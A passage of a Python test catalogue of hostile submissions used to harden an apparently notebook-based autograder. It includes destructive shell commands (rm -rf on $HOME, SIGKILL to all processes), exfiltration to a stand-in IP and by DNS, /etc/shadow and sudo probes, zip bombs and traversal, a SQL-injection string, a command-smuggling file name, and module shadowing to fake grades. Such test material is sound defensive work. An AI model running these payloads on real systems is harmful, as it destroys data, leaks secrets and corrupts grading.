        for name in ("RLIMIT_AS", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
            try:
                resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                os.setpriority(os.PRIO_PROCESS, 0, -20)
            except (OSError, ValueError):
                pass
        keep = [np.ones(2**27) for _ in range(20)]
        """),
    ),
]

DEATHS = [
    machine("exit-os", "os._exit: the kernel is gone without a word.", "import os\nos._exit(0)", "never"),
    machine("exit-sys", "sys.exit(0): says that all went well.", "import sys\nsys.exit(0)"),
    machine("exit-quit", "exit(): asks the kernel to end.", "exit()"),
    machine("segfault", "Reads address 0.", "import ctypes\nctypes.string_at(0)", "never"),
    machine("abort", "os.abort leaves a core file where it may.", "import os\nos.abort()", "never"),
    machine("kill-self", "SIGKILL to itself.", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "never"),
    machine("term-self", "SIGTERM to itself.", "import os, signal\nos.kill(os.getpid(), signal.SIGTERM)"),
    machine(
        "stop-self",
        "SIGSTOP to itself: alive, but it will not answer.",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    ),
    machine("kill-parent", "SIGKILL to its parent.", guarded("import signal\nos.kill(os.getppid(), signal.SIGKILL)")),
    machine(
        "stop-parent",
        "SIGSTOP to its parent: who waits for it waits for ever.",
        guarded("import signal\nos.kill(os.getppid(), signal.SIGSTOP)"),
    ),
    machine(
        "kill-all", "SIGKILL to every process it may signal.", guarded("import signal\nos.kill(-1, signal.SIGKILL)")
    ),
    machine(
        "kill-each",
        "SIGKILL to every process it sees in /proc.",
        guarded("""
        import signal
        for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        """),
    ),
    machine(
        "signal-group",
        "SIGINT, SIGTERM and SIGSTOP to its process group, in the hope that the grader is in it.",
        guarded("""
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
            os.killpg(0, number)
        """),
    ),
    machine(
        "stack",
        "A stack overflow in C.",
        """
        import sys
        sys.setrecursionlimit(10**9)
        deep = []
        for _ in range(10**6):
            deep = [deep]
        repr(deep)
        """,
    ),
    machine(
        "recursion",
        "A recursion without end: an ordinary RecursionError.",
        "def f():\n    return f()\n\n\nf()",
        "surely",
    ),
    machine(
        "close-descriptors",
        "Closes descriptors 0 to 1023, the kernel's sockets among them.",
        "import os\nos.closerange(0, 1024)",
        "never",
    ),
    machine("close-output", "Closes stdout and stderr.", "import sys\nsys.stdout.close()\nsys.stderr.close()"),
    machine("loop-stopped", "Stops the kernel's event loop.", "import asyncio\nasyncio.get_event_loop().stop()"),
    machine(
        "context-closed",
        "Destroys the kernel's messaging context.",
        "get_ipython().kernel.shell_stream.socket.context.destroy(linger=0)",
    ),
    machine(
        "threads-killed",
        "Raises SystemExit in every other thread of the kernel.",
        """
        import ctypes, threading
        for thread in threading.enumerate():
            if thread is not threading.main_thread():
                ctypes.pythonapi.PyThreadState_SetAsyncExc(ctypes.c_ulong(thread.ident), ctypes.py_object(SystemExit))
        """,
    ),
    machine(
        "delete-cwd",
        "Deletes its working directory.",
        guarded("import shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)"),
    ),
    machine(
        "delete-all",
        "Deletes by the shell whatever it may.",
        guarded("""
        os.system('rm -rf "$HOME" ./* /tmp/* /dev/shm/* /run/kernel/* 2>/dev/null')
        """),
    ),
    machine(
        "delete-connection",
        "Deletes the folder of the kernel's connection file and sockets.",
        guarded(CONNECTION + "import shutil\nshutil.rmtree(folder, ignore_errors=True)"),
    ),
    machine(
        "modes",
        "Takes all rights from its folders, so that nobody can clean up.",
        guarded("""
        for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
            try:
                os.makedirs(f"{folder}/locked/inner", exist_ok=True)
                os.chmod(f"{folder}/locked", 0)
                os.chmod(folder, 0)
            except OSError:
                pass
        """),
    ),
    ending(
        "exit-hangs",
        "Leaves an exit function that never ends: shutting down must not wait for it.",
        """
        import atexit, time
        atexit.register(time.sleep, 1e9)
        """,
    ),
    ending(
        "exit-deaf",
        "A thread that is no daemon and ignored signals keep the kernel from ending.",
        """
        import signal, threading, time
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        threading.Thread(target=time.sleep, args=[1e6]).start()
        """,
    ),
    ending(
        "shutdown-hangs",
        "The kernel's own shutdown never returns.",
        """
        import time
        get_ipython().kernel.do_shutdown = lambda restart: time.sleep(1e9)
        """,
    ),
]

NETWORK = [
    machine(
        "network-loopback",
        "Looks for servers of this machine: gradebooks, notebooks, other kernels.",
        guarded("""
        import socket
        for port in (22, 80, 5432, 6379, 8080, 8786, 8787, 8888, 8889, 9000):
            for kind, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
                try:
                    with socket.socket(kind) as s:
                        s.settimeout(0.2)
                        s.connect((address, port))
                        s.sendall(b"GET /api HTTP/1.0\\r\\n\\r\\n")
                        answers = s.recv(9999)
                except Exception:
                    pass
        """),
        "surely",
    ),
    machine(
        "network-tcp",
        "Asks a friend outside for the answers.",
        guarded("""
        import socket
        try:
            answers = socket.create_connection(("192.0.2.1", 80), timeout=1).recv(9999)
        except OSError:
            pass
        """),
        "surely",
    ),
    machine(
        "network-udp",
        "Sends the hidden inputs outside by UDP.",
        guarded("""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for port in range(1000, 1100):
            try:
                s.sendto(b"inputs", ("192.0.2.1", port))
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "network-dns",
        "Sends the hidden inputs outside in names to look up.",
        guarded("""
        import socket
        try:
            socket.getaddrinfo("inputs.answers.invalid", 80)
        except OSError:
            pass
        """),
        "surely",
    ),
    machine(
        "network-raw",
        "Raw and netlink sockets, to see and alter the network.",
        guarded("""
        import socket
        for kind in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (16, 3, 0)):
            try:
                socket.socket(*kind).close()
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "network-sockets",
        "Connects to abstract and ordinary Unix sockets: Docker, databases, the session bus.",
        guarded("""
        import socket
        names = [line.split()[-1] for line in open("/proc/net/unix") if " @" in line or " /" in line]
        for name in [*names, "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.s.PGSQL.5432"]:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.settimeout(0.2)
                    s.connect(name.replace("@", "\\0", 1))
            except OSError:
                pass
        """),
        "surely",
    ),
    machine(
        "shell",
        "Shell commands and privileged programs.",
        guarded("""
        for command in ("su -c id", "sudo -n id", "mount -t tmpfs x /mnt", "crontab -l", "cat /etc/shadow"):
            os.system(f"timeout 2 {command} > /dev/null 2>&1 < /dev/null")
        """),
        "surely",
    ),
]

MACHINE = [*LOOPS, *OUTPUTS, *RESOURCES, *DEATHS, *NETWORK]

# --- files -----------------------------------------------------------------------------------------------------------


def files(name: str, why: str, build: Callable, status: str = "refused", score: float = 0, **rest) -> Submission:
    return Submission(f"file-{name}", "files", build, score, why, status, **rest)


def holds(content, name: str = FILE) -> Callable:
    """Return a build that writes one file, whose content may be made by a function."""
    return lambda folder: save(folder, content() if callable(content) else content, name)


def right_text() -> str:
    return text(notebook(RIGHT))


def linked(target: str, name: str = FILE) -> Callable:
    def build(folder: Path) -> None:
        folder.mkdir()
        (folder / name).symlink_to(target)

    return build


def linked_folder(folder: Path) -> None:
    elsewhere = folder.with_name("elsewhere")
    save(elsewhere, notebook(RIGHT))
    folder.symlink_to(elsewhere.name, target_is_directory=True)


def fifo(folder: Path) -> None:
    folder.mkdir()
    os.mkfifo(folder / FILE)


def device(folder: Path) -> None:
    folder.mkdir()
    try:
        os.mknod(folder / FILE, stat.S_IFCHR | 0o600, os.makedev(1, 5))
    except PermissionError:  # only root may; to whoever opens it, a link is the same
        (folder / FILE).symlink_to("/dev/zero")


def unix_socket(folder: Path) -> None:
    folder.mkdir()
    handle = os.open(folder, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(f"/proc/self/fd/{handle}/{FILE}")  # a socket's own path may hold 107 bytes only
    os.close(handle)


def sparse(folder: Path) -> None:
    folder.mkdir()
    with (folder / FILE).open("wb") as file:
        file.truncate(4 << 30)


def unreadable(folder: Path) -> None:
    save(folder, notebook(WRONG, last="# a file without any rights"))
    (folder / FILE).chmod(0)


def deep_metadata() -> dict:
    made = notebook(WRONG)
    made.metadata.deep = functools.reduce(lambda inner, _: [inner], range(300), [])
    return made


def many_cells() -> dict:
    made = notebook(WRONG)
    made.cells += [extra("pass", id=f"more-{n}") for n in range(30_000)]
    return made


def many_attachments() -> dict:
    made = notebook(ONE)
    made.cells[0].attachments = {f"{n}.png": {"image/png": "AAAA"} for n in range(20_000)}
    return made


def link_in_zip() -> bytes:
    link = zipfile.ZipInfo(FILE)
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return zipped({link: "/etc/passwd"})


def bomb(megabytes: int) -> bytes:
    return zipped({FILE: right_text() + " " * (megabytes * 1_000_000)})


def lying_zip() -> bytes:
    """A member that is far larger than the archive's headers say."""
    size = len(right_text().encode()) + 60_000_000
    return bomb(60).replace(struct.pack("<L", size), struct.pack("<L", 1000))


def encrypted_zip() -> bytes:
    data = bytearray(zipped({FILE: right_text()}))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


def companions(names: dict[str, str]) -> Callable:
    """Return a build that writes wrong answers with other files beside them."""

    def build(folder: Path) -> None:
        save(folder, notebook(WRONG))
        for name, content in names.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)

    return build


def newer_is_worse(folder: Path) -> None:
    for name, answers, moment in (("(1)", RIGHT, 1_700_000_000), ("(2)", ONE, 1_700_009_000)):
        save(folder, notebook(answers), f"{EXERCISE} {name}.ipynb")
        os.utime(folder / f"{EXERCISE} {name}.ipynb", (moment, moment))


def linked_timestamp(folder: Path) -> None:
    save(folder, notebook(ONE))
    (folder / "timestamp.txt").symlink_to("/etc/hostname")


def endless_timestamp(folder: Path) -> None:
    save(folder, notebook(ONE))
    (folder / "timestamp.txt").write_text("'; DROP TABLE grade; -- " * 300_000)


def named_in_bytes(folder: Path) -> None:
    folder.mkdir()
    path = os.path.join(os.fsencode(folder), b"perceptron\xff\xfe.ipynb")
    with open(path, "wb") as file:
        file.write(right_text().encode())


PAGE = "<!doctype html><html><head><title>Sign in</title></head><body><form>Password <input></form></body></html>"

FILES = [
    files("missing", "Nothing was handed in: the folder is empty.", lambda folder: folder.mkdir(), "missing"),
    files("missing-folder", "The student has a folder, but none for this exercise.", lambda folder: None, "missing"),
    files(
        "link-friend",
        "A link to a friend's notebook, which holds right answers.",
        linked(f"../../honest-all-right/{EXERCISE}/{FILE}"),
    ),
    files("link-solution", "A link to the solution.", linked(SOLUTION)),
    files("link-folder", "The folder is a link to another one with right answers.", linked_folder),
    files("link-device", "A link to a device that gives bytes without end.", linked("/dev/urandom")),
    files("link-loop", "A link to itself.", linked(FILE)),
    files("link-nowhere", "A link that leads nowhere.", linked("/nonexistent"), "refused|missing"),
    files("link-process", "A link to the grader's own standard input.", linked("/proc/self/fd/0")),
    files("fifo", "A pipe: who opens it waits for ever.", fifo),
    files("device", "A device file.", device),
    files("socket", "A Unix socket.", unix_socket),
    files(
        "folder",
        "A folder with the notebook's name.",
        lambda folder: (folder / FILE).mkdir(parents=True),
        "refused|missing",
    ),
    files("unreadable", "A file without any rights, wrong answers in it.", unreadable, "refused|graded"),
    files("empty", "An empty file: saving was interrupted.", holds("")),
    files("truncated", "Half a notebook.", holds(lambda: right_text()[:9000])),
    files("binary", "Bytes that mean nothing.", holds(bytes(range(256)) * 40)),
    files("page", "The sign-in page of the learning platform, saved as a notebook.", holds(PAGE)),
    files("python", "A Python program with a notebook's name.", holds(ANSWERS)),
    files(
        "python-instead",
        "A Python program in place of the notebook.",
        holds(ANSWERS, f"{EXERCISE}.py"),
        "refused|missing",
    ),
    files(
        "tar",
        "An archive of a kind that is not read.",
        holds(b"\x1f\x8b\x08" + bytes(500), f"{EXERCISE}.tar.gz"),
        "refused|missing",
    ),
    files("json-other", "JSON, but not a notebook.", holds('{"name": "perceptron", "score": 16}')),
    files("json-list", "JSON that is a list.", holds("[1, 2, 3]")),
    files("json-number", "JSON that is a number.", holds("16")),
    files("json-cells", "A notebook whose cells are text.", holds(lambda: text(notebook() | {"cells": "none"}))),
    files("json-version", "A notebook of format 99.", holds(lambda: text(notebook(RIGHT) | {"nbformat": 99}))),
    files(
        "json-digits",
        "A number of a million digits in the metadata.",
        holds(lambda: text(notebook(WRONG)).replace('"nbformat_minor": 5', '"nbformat_minor": ' + "7" * 1_000_000)),
        "refused|graded",
    ),
    files("json-deep", "Lists nested 100,000 deep break a recursive reader.", holds("[" * 100_000 + "]" * 100_000)),
    files(
        "json-deep-metadata", "A good notebook with metadata nested 300 deep.", holds(deep_metadata), "refused|graded"
    ),
    files(
        "size-padded", "A good notebook with 40 MB of blanks after it.", holds(lambda: right_text() + " " * 40_000_000)
    ),
    files("size-sparse", "A file of four gigabytes that takes no room on the disk.", sparse),
    files("size-cells", "30,000 cells.", holds(many_cells), "refused|graded"),
    files(
        "size-cell",
        "One cell of nine megabytes.",
        holds(lambda: notebook(WRONG, last="x = 1\n" * 1_500_000)),
        "refused|graded",
    ),
    files("size-attachments", "20,000 attachments.", holds(many_attachments), "graded", 2),
    files("zip-bomb", "An archive that grows to 100 MB.", holds(lambda: bomb(100), "perceptron.zip")),
    files("zip-lying", "An archive that says it is small and is not.", holds(lying_zip, "perceptron.zip")),
    files(
        "zip-traversal",
        "A member whose name leads out of the folder.",
        holds(lambda: zipped({f"../../file-empty/{EXERCISE}/{FILE}": right_text()}), "perceptron.zip"),
    ),
    files(
        "zip-absolute",
        "A member with an absolute name.",
        holds(lambda: zipped({"/tmp/perceptron.ipynb": right_text()}), "hand-in.zip"),
    ),
    files("zip-link", "A member that is a link.", holds(link_in_zip, "perceptron.zip")),
    files("zip-encrypted", "An archive with a password.", holds(encrypted_zip, "perceptron.zip")),
    files(
        "zip-nested",
        "An archive in an archive.",
        holds(lambda: zipped({"inner.zip": zipped({FILE: right_text()})}), "perceptron.zip"),
    ),
    files(
        "zip-many",
        "An archive with 5,000 members beside the notebook.",
        holds(lambda: zipped({f"{n}.txt": "x" for n in range(5000)} | {FILE: right_text()}), "perceptron.zip"),
    ),
    files("zip-broken", "Half an archive.", holds(lambda: zipped({FILE: right_text()})[:1500], "perceptron.zip")),
    files("timestamp-link", "A timestamp that is a link to a file of the machine.", linked_timestamp, "graded", 2),
    files("timestamp-huge", "A timestamp of seven megabytes that is none.", endless_timestamp, "graded", 2),
    files(
        "beside-modules",
        "Modules beside the notebook that shadow the real ones.",
        companions(
            {
                "numpy.py": "asarray = array = where = lambda *w, **o: True",
                "mlcourse/__init__.py": "",
                "mlcourse/feedback.py": "check = print",
                "json.py": "dumps = loads = lambda *w, **o: '16'",
                "sitecustomize.py": "import builtins",
            }
        ),
        "graded",
    ),
    files(
        "beside-settings",
        "Settings and a gradebook beside the notebook.",
        companions(
            {
                "nbgrader_config.py": "c = get_config()\nc.ExecutePreprocessor.enabled = False",
                "jupyter_config.py": "raise SystemExit",
                "gradebook.db": "not a database",
                "conftest.py": "raise SystemExit",
                ".ipython/profile_default/startup/0.py": "check = print",
            }
        ),
        "graded",
    ),
    files(
        "two-newest",
        "Two notebooks with a browser's names: the newest counts, with one right answer.",
        newer_is_worse,
        "graded",
        2,
    ),
    files("name-newline", "A name with a line break.", holds(right_text, "percep\ntron.ipynb"), "graded", MOST),
    files(
        "name-dash", "A name that looks like an option.", holds(right_text, "--output=x; rm -rf .ipynb"), "graded", MOST
    ),
    files(
        "name-unicode",
        "A name in other letters, with a mark that turns the direction.",
        holds(right_text, "\u202e персептрон ☃.ipynb"),
        "graded",
        MOST,
    ),
    files("name-bytes", "A name that is not text.", named_in_bytes, "graded", MOST),
]

HOSTILE = (*MARKING, *KERNEL, *MACHINE, *FILES)
CATALOGUE = (*HOSTILE, *HONEST)
